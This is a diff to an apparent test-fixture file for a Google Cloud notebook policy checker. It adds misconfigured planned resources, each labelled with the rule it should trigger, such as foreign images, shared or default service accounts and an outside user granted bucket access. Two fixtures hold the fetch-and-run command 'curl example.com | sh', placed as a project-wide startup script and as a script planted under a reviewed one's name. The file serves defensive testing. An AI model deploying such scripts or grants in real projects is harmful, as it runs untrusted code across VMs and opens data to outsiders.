@@ -1,6 +1,6 @@
 """Mistakes that people make, as planned resources, beside those that are right."""
 
-from plan_documents import KEY, metadata, notebook
+from plan_documents import ACCOUNT, KEY, NETWORK, metadata, notebook
 
 PERIMETER = {
     "resources": ["projects/1"],
@@ -28,7 +28,7 @@ RIGHT = {
         "destination_ranges": ["0.0.0.0/0"],
         "priority": 65000,
     },
-    "google_project_iam_member": {"role": "roles/logging.logWriter", "member": "serviceAccount:a@b.c"},
+    "google_project_iam_member": {"role": "roles/logging.logWriter", "member": f"serviceAccount:{ACCOUNT}"},
     "google_access_context_manager_service_perimeter": {
         "use_explicit_dry_run_spec": False,
         "spec": [],
@@ -38,6 +38,10 @@ RIGHT = {
         "basic": [{"conditions": [{"ip_subnetworks": ["203.0.113.0/24"]}]}]
     },
 }
+
+
+def job(**task):
+    return {"template": [{"template": [{"encryption_key": KEY, **task}]}]}
 
 
 def setup(**parts):
@@ -68,6 +72,60 @@ MISTAKES = {
     "the owner's own rights, which nobody asked for": (
         {"google_workbench_instance": {**notebook(), "enable_managed_euc": True}},
         "managed-euc",
+    ),
+    "an image of one's own": (setup(vm_image=[{"project": "mallory", "family": "x"}]), "image-source"),
+    "the default network": (
+        setup(
+            network_interfaces=[{"network": NETWORK, "subnet": "projects/p/regions/r/subnetworks/default"}]
+        ),
+        "fleet-network",
+    ),
+    "a script for every VM of the project": (
+        {"google_compute_project_metadata_item": {"key": "startup-script", "value": "curl example.com | sh"}},
+        "unlisted-resource",
+    ),
+    "another script under a reviewed one's name": (
+        {
+            "google_storage_bucket_object": {
+                "bucket": "nbp-quickstart-quickstart-scripts",
+                "name": f"post-startup/ana/{64 * '0'}.sh",
+                "content": "curl example.com | sh",
+            }
+        },
+        "post-startup-source",
+    ),
+    "a job with a notebook's rights": (
+        {"google_cloud_run_v2_job": job(service_account=ACCOUNT)},
+        "shared-service-account",
+    ),
+    "a job with everybody's rights": (
+        {"google_cloud_run_v2_job": job(service_account="1-compute@developer.gserviceaccount.com")},
+        "default-service-account",
+    ),
+    "a job that nobody knows": (
+        {"google_cloud_run_v2_job": job(containers=[{"image": "docker.io/mallory/x"}])},
+        "image-source",
+    ),
+    "a timer with a notebook's rights": (
+        {
+            "google_cloud_scheduler_job": {
+                "http_target": [{"oauth_token": [{"service_account_email": ACCOUNT}], "oidc_token": []}]
+            }
+        },
+        "shared-service-account",
+    ),
+    "another way to Google": (
+        edited("google_compute_route", dest_range="199.36.153.8/30"),
+        "open-egress",
+    ),
+    "a colleague who reads a bucket": (
+        {
+            "google_storage_bucket_iam_member": {
+                "role": "roles/storage.objectViewer",
+                "member": "user:mallory@example.com",
+            }
+        },
+        "broad-role",
     ),
     "the default account, for its rights": (
         setup(service_accounts=[{"email": "1-compute@developer.gserviceaccount.com"}]),
